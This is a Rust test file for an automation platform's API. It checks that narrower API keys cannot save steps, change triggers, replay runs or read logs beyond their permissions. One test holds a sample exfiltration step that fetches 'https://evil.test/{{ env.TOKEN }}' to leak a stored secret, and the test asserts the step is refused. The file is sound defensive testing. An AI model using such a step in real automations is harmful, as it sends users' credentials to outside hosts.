//! What a definition does needs the permissions of its author: on save, and of those who run it.

use domain::plans::Plan;
use http::Method;
use serde_json::{Value, json};

use super::fixture::{Owner, http, with};
use crate::no_side_effects::Snapshot;

const UNKNOWN: &str = "00000000-0000-0000-0000-000000000000";

pub(super) fn entry(page: &str) -> Value {
    json!([{"id": "entry", "type": "create_entry", "pageId": page, "data": {"a": "x"}}])
}

impl Owner {
    pub(super) async fn key_with(&self, restrictions: Value) -> String {
        let mut body = json!({"label": "k"});
        body.as_object_mut().unwrap().extend(restrictions.as_object().unwrap().clone());
        self.ok(Method::POST, "/api/keys", body).await["key"].as_str().unwrap().to_owned()
    }

    pub(super) async fn form(&self) -> String {
        let fields = json!([{"name": "a", "label": "A", "type": "text"}]);
        let form = self.ok(Method::POST, "/api/forms", json!({"name": "F", "fields": fields})).await;
        form["formId"].as_str().unwrap().to_owned()
    }
}

#[tokio::test]
async fn ids_of_unknown_or_foreign_resources_are_refused_with_their_path() {
    let owner = Owner::new(&[]).await;
    let (foreign_key, _) = owner.api.trial_on(Plan::Scale).await;
    let page = json!({"slug": "index", "title": "T", "html": "x", "entryTemplate": "x"});
    let foreign = owner.api.send(Method::POST, "/api/pages", Some(&foreign_key), &page).await.1;
    let foreign = foreign["id"].as_str().unwrap();
    let own = owner.page("own").await;
    let before = Snapshot::take(&owner.api).await;
    let inner = |id: &str| {
        let find = json!({"id": "find", "type": "find", "in": "entries", "pageId": id});
        json!([{"id": "if", "type": "condition", "branches": [{"if": "true", "steps": [find]}]}])
    };
    let hook = json!([{"id": "hook", "type": "send_webhook", "webhookId": UNKNOWN, "payload": {}}]);
    let submission = json!([{"id": "submit", "type": "create_submission", "formId": UNKNOWN, "payload": {}}]);
    for (body, field) in [
        (with(http(), "steps", entry(UNKNOWN)), "steps[0].pageId"),
        (with(http(), "steps", entry(foreign)), "steps[0].pageId"),
        (with(http(), "steps", inner(foreign)), "steps[0].branches[0].steps[0].pageId"),
        (with(http(), "steps", hook), "steps[0].webhookId"),
        (with(http(), "steps", submission), "steps[0].formId"),
        (with(http(), "trigger", json!({"type": "form_submission", "formId": own})), "trigger.formId"),
    ] {
        let refused = owner.refused(Method::POST, "/api/automations", body).await;
        let expected = vec![(field.to_owned(), "not_found".to_owned())];
        assert_eq!(refused, (404, "not_found".to_owned(), expected));
    }
    assert_eq!(before.check().await, Ok(()));
    owner.automation(with(http(), "steps", entry(&own))).await;
}

#[tokio::test]
async fn a_key_can_not_save_steps_beyond_its_own_permissions() {
    let owner = Owner::new(&[]).await;
    let (page, other) = (owner.page("one").await, owner.page("other").await);
    let form = owner.form().await;
    let by_ids = owner.key_with(json!({"resourceIds": {"pages": [page]}})).await;
    let by_scope = owner.key_with(json!({"scopes": ["automations:*", "pages:read"]})).await;
    let create = async |key: &str, body: Value| {
        let (status, problem) = owner.api.send(Method::POST, "/api/automations", Some(key), &body).await;
        let error = &problem["fieldErrors"][0];
        (status.as_u16(), problem["code"].clone(), error["field"].clone(), problem["requiredScope"].clone())
    };
    let refused = create(&by_ids, with(http(), "steps", entry(&other))).await;
    assert_eq!(refused, (403, json!("insufficient_scope"), json!("steps[0].pageId"), Value::Null));
    let refused = create(&by_scope, with(http(), "steps", entry(&page))).await;
    assert_eq!(
        refused,
        (403, json!("insufficient_scope"), json!("steps[0].pageId"), json!("entries:create"))
    );
    let trigger = json!({"type": "form_submission", "formId": form});
    let refused = create(&by_scope, with(http(), "trigger", trigger)).await;
    assert_eq!((refused.0, refused.3), (403, json!("submissions:read")));
    let upsert = json!([{"id": "page", "type": "update_page", "slug": "new", "upsert": true, "title": "T", "html": "x"}]);
    let refused = create(&by_ids, with(http(), "steps", upsert)).await;
    assert_eq!((refused.0, refused.2), (403, json!("steps[0].upsert")), "a new page is not among its ids");
    assert_eq!(create(&by_ids, with(http(), "steps", entry(&page))).await.0, 201);
}

#[tokio::test]
async fn runs_have_the_permissions_of_the_last_change_and_no_other_key_borrows_them() {
    let owner = Owner::new(&["automations.test_timeout=1ms"]).await;
    let (page, other) = (owner.page("one").await, owner.page("other").await);
    let (path, created) = owner.automation(with(http(), "steps", entry(&other))).await;
    let narrow = owner.key_with(json!({"resourceIds": {"pages": [page]}})).await;
    let id = created["id"].as_str().unwrap();
    let scope = format!("select resource_ids::text from automations where id = '{id}'");
    assert_eq!(owner.column(&scope).await, "{}");
    let send = async |method: Method, path: &str, body: Value| {
        owner.api.send(method, path, Some(&narrow), &body).await.0.as_u16()
    };
    // Its name it may change, but not what it does, even if only by a variable.
    assert_eq!(send(Method::PUT, &path, json!({"name": "B"})).await, 200);
    assert_eq!(send(Method::PUT, &path, json!({"enabled": true})).await, 200);
    assert_eq!(owner.column(&scope).await, "{}");
    for change in [json!({"env": {"A": "x"}}), json!({"trigger": {"type": "http", "method": "PUT"}})] {
        assert_eq!(send(Method::PUT, &path, change).await, 403);
    }
    let run = owner.ok(Method::POST, &format!("{path}/test"), json!({})).await;
    let run = format!("{path}/runs/{}", run["runId"].as_str().unwrap());
    owner.ok(Method::POST, &format!("{run}/cancel"), Value::Null).await;
    assert_eq!(send(Method::POST, &format!("{path}/test"), json!({})).await, 403);
    assert_eq!(send(Method::POST, &format!("{run}/replay"), Value::Null).await, 403);
    assert_eq!(
        send(Method::GET, &format!("{path}/logs"), Value::Null).await,
        403,
        "they hold data of the page"
    );
    assert_eq!(send(Method::GET, &run, Value::Null).await, 403);
    // Of its own page it may do all of this, and from then on the runs may do no more than the key.
    assert_eq!(send(Method::PUT, &path, json!({"steps": entry(&page)})).await, 200);
    assert_eq!(owner.column(&scope).await, format!("{{\"pages\": [\"{page}\"]}}"));
    let (status, own) =
        owner.api.send(Method::POST, &format!("{path}/test"), Some(&narrow), &json!({})).await;
    assert_eq!(status.as_u16(), 200);
    let own = format!("{path}/runs/{}", own["runId"].as_str().unwrap());
    assert_eq!(send(Method::GET, &own, Value::Null).await, 200);
    // The earlier run still holds data of the other page.
    for hidden in [&run, &format!("{path}/logs")] {
        assert_eq!(send(Method::GET, hidden, Value::Null).await, 403, "{hidden}");
    }
    for hidden in [format!("{run}/replay"), format!("{run}/cancel")] {
        assert_eq!(send(Method::POST, &hidden, Value::Null).await, 403, "{hidden}");
    }
    owner.ok(Method::PUT, &path, json!({"steps": entry(&other)})).await;
    assert_eq!(owner.column(&scope).await, "{}");
}

#[tokio::test]
async fn a_key_with_fewer_permissions_can_not_send_stored_secrets_elsewhere() {
    let owner = Owner::new(&[]).await;
    let page = owner.page("one").await;
    let env = json!({"TOKEN": "s3cret", "URL": "https://a.test"});
    let (path, _) = owner.automation(with(http(), "env", env)).await;
    let by_ids = owner.key_with(json!({"resourceIds": {"pages": [page]}})).await;
    let by_scope = owner.key_with(json!({"scopes": ["automations:*"]})).await;
    let put = async |key: &str, body: Value| {
        let (status, problem) = owner.api.send(Method::PUT, &path, Some(key), &body).await;
        (status.as_u16(), problem["code"].as_str().unwrap_or_default().to_owned())
    };
    let steal = json!([{"id": "steal", "type": "fetch", "url": "https://evil.test/{{ env.TOKEN }}"}]);
    let refused = (403, "insufficient_scope".to_owned());
    for key in [&by_ids, &by_scope] {
        for change in [
            json!({"steps": steal}),
            json!({"trigger": {"type": "http", "method": "GET"}}),
            json!({"steps": steal, "env": {"TOKEN": null}}),
            json!({"env": {"TOKEN": null, "URL": "https://evil.test"}}),
        ] {
            assert_eq!(put(key, change.clone()).await, refused, "{change}");
        }
        assert_eq!(put(key, json!({"name": "B"})).await.0, 200);
    }
    // The secret of another key is gone with this change.
    assert_eq!(put(&by_ids, json!({"steps": steal, "env": {"TOKEN": "own"}})).await.0, 200);
    assert_eq!(put(&by_ids, json!({"steps": steal})).await.0, 200, "its own variables it may keep");
}

#[tokio::test]
async fn a_key_with_fewer_permissions_can_not_write_pages_by_slug_through_the_runs_of_another() {
    let owner = Owner::new(&["automations.test_timeout=1ms"]).await;
    let page = owner.page("one").await;
    owner.page("other").await;
    let update =
        json!([{"id": "page", "type": "update_page", "slug": "{{ trigger.payload.slug }}", "html": "x"}]);
    let (path, created) = owner.automation(with(http(), "steps", update)).await;
    let narrow = owner.key_with(json!({"resourceIds": {"pages": [page]}})).await;
    let run_id =
        owner.trigger(created["triggerUrl"].as_str().unwrap(), &json!({"slug": "other"})).await.run_id();
    let run = owner.claim_one().await;
    owner.succeed(run.claim).await;
    let send = async |key: &str, method: Method, path: &str, body: Value| {
        owner.api.send(method, path, Some(key), &body).await.0.as_u16()
    };
    let replay = format!("{path}/runs/{run_id}/replay");
    let test = format!("{path}/test");
    for (path, body) in [(&test, json!({"triggerData": {"slug": "other"}})), (&replay, Value::Null)] {
        assert_eq!(send(&narrow, Method::POST, path, body.clone()).await, 403, "{path}");
        assert_eq!(send(&owner.key, Method::POST, path, body).await, 200, "{path}");
    }
    assert_eq!(send(&narrow, Method::PUT, &path, json!({"enabled": false})).await, 200);
    assert_eq!(send(&narrow, Method::PUT, &path, json!({"enabled": true})).await, 403);
    assert_eq!(send(&owner.key, Method::PUT, &path, json!({"enabled": true})).await, 200);
}

#[tokio::test]
async fn runs_of_a_form_need_the_scope_of_its_submissions() {
    let owner = Owner::new(&["automations.test_timeout=1ms"]).await;
    let form = owner.form().await;
    let trigger = json!({"type": "form_submission", "formId": form});
    let (path, _) = owner.automation(with(http(), "trigger", trigger)).await;
    let run = owner.ok(Method::POST, &format!("{path}/test"), json!({})).await;
    let run = format!("{path}/runs/{}", run["runId"].as_str().unwrap());
    let without = owner.key_with(json!({"scopes": ["automations:*"]})).await;
    let with_it = owner.key_with(json!({"scopes": ["automations:*", "submissions:read"]})).await;
    for path in [&run, &format!("{path}/logs")] {
        let (status, problem) = owner.api.send(Method::GET, path, Some(&without), &Value::Null).await;
        assert_eq!((status.as_u16(), &problem["requiredScope"]), (403, &json!("submissions:read")));
        assert_eq!(owner.api.send(Method::GET, path, Some(&with_it), &Value::Null).await.0.as_u16(), 200);
    }
}

#[tokio::test]
async fn runs_stay_hidden_once_the_resource_of_their_data_is_deleted() {
    let owner = Owner::new(&["automations.test_timeout=1ms"]).await;
    let (page, other) = (owner.page("one").await, owner.page("other").await);
    let (path, _) = owner.automation(with(http(), "steps", entry(&other))).await;
    let run = owner.ok(Method::POST, &format!("{path}/test"), json!({})).await;
    let run = format!("{path}/runs/{}", run["runId"].as_str().unwrap());
    owner.ok(Method::DELETE, &format!("/api/pages/{other}"), Value::Null).await;
    let narrow = owner.key_with(json!({"resourceIds": {"pages": [page]}})).await;
    assert_eq!(owner.api.send(Method::GET, &run, Some(&narrow), &Value::Null).await.0.as_u16(), 403);
    owner.get(&run).await;
}
